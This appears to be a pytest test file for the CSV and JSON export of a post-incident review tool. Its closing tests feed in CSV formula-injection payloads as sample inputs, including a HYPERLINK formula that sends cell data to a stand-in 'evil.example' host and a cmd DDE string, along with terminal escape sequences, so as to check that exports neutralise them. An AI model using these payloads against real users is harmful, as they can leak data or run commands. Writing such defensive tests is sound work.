import csv
import io
import json
import re
from pathlib import Path

import pytest

from pmtui.cli.commands import main
from pmtui.document import printable
from pmtui.document.model import Action, Review
from pmtui.export import tracker
from pmtui.files import store


def review() -> Review:
    return Review(
        incident={"id": "INC-7", "title": "Checkout down", "severity": "SEV-1"},
        actions=[
            Action(
                id="A1",
                title='Alert on "5xx", now',
                description="Line one\nline, two",
                owner="Adam",
                owners=["Bea", "Adam", "Cy"],
                due="2026-12-04",
                status="in progress",
                priority="P1",
                tags=["db pool", "sre"],
                ticket="OPS-12",
            ),
            Action(id="A2", title="Runbook"),
        ],
    )


def test_csv_reads_back_one_row_per_action_with_jira_columns():
    r = review()
    r.incident.started_at = "2026-11-14T23:30:00+00:00"
    rows = list(csv.reader(io.StringIO(tracker.to_csv(r), newline="")))
    header, first, second = rows
    assert header == [*tracker.COLUMNS, *["Labels"] * 4]
    assert header[:7] == [
        "Summary", "Description", "Assignee", "Co-owners", "Due date", "Priority", "Status"
    ]  # fmt: skip
    assert first[:7] == [
        'Alert on "5xx", now',
        "Line one\nline, two\n\nFrom the post-incident review INC-7 Checkout down (action A1)."
        "\n\nTicket: OPS-12",
        "Adam",
        "Bea, Cy",
        "2026-12-04",
        "P1",
        "in progress",
    ]
    assert first[7:] == ["sev1_20261114", "sev1", "db_pool", "sre"]
    assert second == ["Runbook", second[1], "", "", "", "", "", "sev1_20261114", "sev1", "", ""]


def test_csv_of_a_review_without_actions_is_a_header():
    assert tracker.to_csv(Review()) == (
        "Summary,Description,Assignee,Co-owners,Due date,Priority,Status,Labels\r\n"
    )


def test_csv_leaves_closed_actions_out_unless_every_one_is_asked_for(tmp_path, capsys):
    r = Review(
        actions=[
            Action(id="A1", title="Still to do"),
            Action(id="A2", title="Shipped", status="done"),
            Action(id="A3", title="Dropped", status="won't do"),
            Action(id="A4", title="Started", status="in progress"),
        ]
    )
    titles = [row[0] for row in csv.reader(io.StringIO(tracker.to_csv(r)))][1:]
    assert titles == ["Still to do", "Started"]
    every = [row[0] for row in csv.reader(io.StringIO(tracker.to_csv(r, every=True)))][1:]
    assert every == ["Still to do", "Shipped", "Dropped", "Started"]
    path = tmp_path / "review.toml"
    store.save(r, path)
    for flags, expected in (([], 2), (["--all"], 4)):
        assert main(["export", str(path), "--format", "csv", *flags]) == 0
        assert len(list(csv.reader(io.StringIO(capsys.readouterr().out)))) == 1 + expected
    assert main(["export", str(path), "--format", "json"]) == 0
    assert len(json.loads(capsys.readouterr().out)["actions"]) == 4  # scripts see every one


def test_json_carries_every_key_of_every_action_set_or_not():
    data = json.loads(tracker.to_json(review()))
    unset = data["actions"][1]
    assert set(Action.model_fields) <= unset.keys()
    assert unset["due"] is None and unset["priority"] is None and unset["status"] is None
    assert unset["owners"] == [] and unset["kind"] is None and unset["horizon"] is None


def test_json_gives_each_unset_key_one_type_null_only_for_dates_and_choices():
    """What scripts rely on: text stays a string and a list a list, set or not."""
    data = json.loads(tracker.to_json(Review(actions=[Action(id="A1", title="Runbook")])))
    assert data["incident"] == {
        "id": "", "title": "", "severity": "", "status": "draft", "review_date": None
    }  # fmt: skip
    assert data["actions"] == [
        {
            "id": "A1",
            "title": "Runbook",
            "description": "",
            "owner": "",
            "owners": [],
            "due": None,
            "priority": None,
            "status": None,
            "done_on": None,
            "kind": None,
            "horizon": None,
            "phase": None,
            "ticket": "",
            "tags": [],
            "labels": [],
        }
    ]


def test_the_readme_says_what_json_gives_for_each_unset_key():
    """Its sentence names each action key's value when unset (`null`, `""` or `[]`), as the
    JSON has it: a key added to actions gets its word there too."""
    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text(encoding="utf-8")
    said = " ".join(
        readme.split("`--format json` lists every action", 1)[1].split("\n\n")[0].split()
    )
    promised = {
        key: json.loads(value)
        for keys, value in re.findall(r"\(((?:`\w+`,? ?)+)\) is `(null|\"\"|\[\])`", said)
        for key in re.findall(r"`(\w+)`", keys)
    }
    unset = json.loads(tracker.to_json(Review(actions=[Action(id="A1", title="T")])))["actions"][0]
    assert promised == {key: value for key, value in unset.items() if key not in ("id", "title")}


def test_json_for_scripts():
    data = json.loads(tracker.to_json(review()))
    assert data["incident"] == {
        "id": "INC-7",
        "title": "Checkout down",
        "severity": "SEV-1",
        "status": "draft",
        "review_date": None,
    }
    assert [a["id"] for a in data["actions"]] == ["A1", "A2"]
    assert data["actions"][0]["labels"] == ["sev1", "db_pool", "sre"]
    assert data["actions"][0]["due"] == "2026-12-04"


def test_cli_formats(tmp_path, pet_clinic, capsys):
    assert main(["export", str(pet_clinic), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert len(rows) == 1 + len(store.load(pet_clinic).actions)
    out = tmp_path / "actions.json"
    assert main(["export", str(pet_clinic), "--format", "json", "-o", str(out)]) == 0
    assert capsys.readouterr().out == f"wrote {out}\n"
    assert len(json.loads(out.read_text())["actions"]) == len(rows) - 1
    assert main(["export", str(pet_clinic), "--template", "p0p1"]) == 0
    assert capsys.readouterr().out.splitlines()[0] == "# Incident Post-Mortem"


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote():
    formulas = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
    ]
    r = Review(
        actions=[
            Action(id=f"A{n}", title=text, owner=text, tags=[text.strip()])
            for n, text in enumerate(formulas)
        ]
        + [Action(id="A9", title="a = b, -c and @d stay as typed", owner="Ann")]
    )
    rows = list(csv.reader(io.StringIO(tracker.to_csv(r), newline="")))[1:]
    assert [(row[0], row[2]) for row in rows[:-1]] == [("'" + t, "'" + t) for t in formulas]
    assert [row[7] for row in rows[:-1]] == ["'" + "_".join(t.split()) for t in formulas]
    assert rows[-1][0] == "a = b, -c and @d stay as typed" and rows[-1][2] == "Ann"
    assert not any(cell.startswith(printable.FORMULA_STARTS) for row in rows for cell in row)


def test_a_carriage_return_first_is_quoted_too():
    """Quoted, then the CR dropped with the other control characters: still inert."""
    assert printable.inert("\r=1+1") == "'=1+1"
    assert printable.inert("fine = 1") == "fine = 1"


@pytest.mark.parametrize("hidden", ["\x1b", "\x07", "\x00", "\x1b\x07"])
def test_a_control_character_before_a_formula_does_not_hide_it(hidden):
    """The formula check came before the control characters were dropped: `ESC=…` passed
    it and was written `=…`, a formula."""
    assert printable.inert(f'{hidden}=HYPERLINK("http://x")') == '\'=HYPERLINK("http://x")'
    assert printable.inert(f"{hidden}+cmd") == "'+cmd"


HOSTILE = "Fix \x1b]52;c;aGk=\x07 the \x1b[31mpool\x9b\x7f"


def test_files_written_with_o_carry_no_raw_control_character(tmp_path, capsys):
    """`cat actions.csv` must not reprogram the terminal: the file matches what stdout
    shows, CSV without the controls (as Markdown), JSON with them as escapes."""
    path = tmp_path / "review.toml"
    store.save(Review(incident={"title": HOSTILE}, actions=[Action(id="A1", title=HOSTILE)]), path)
    for form in ("csv", "json"):
        out = tmp_path / f"actions.{form}"
        assert main(["export", str(path), "--format", form, "-o", str(out)]) == 0
        capsys.readouterr()
        text = out.read_bytes().decode()
        assert not any((ord(c) < 0x20 and c not in "\r\n") or 0x7F <= ord(c) < 0xA0 for c in text)
        assert main(["export", str(path), "--format", form]) == 0
        assert capsys.readouterr().out.endswith(text)
    rows = list(csv.reader(io.StringIO((tmp_path / "actions.csv").read_bytes().decode())))
    assert rows[1][0] == "Fix ]52;c;aGk= the [31mpool"
    data = json.loads((tmp_path / "actions.json").read_text())
    assert data["incident"]["title"] == HOSTILE and data["actions"][0]["title"] == HOSTILE
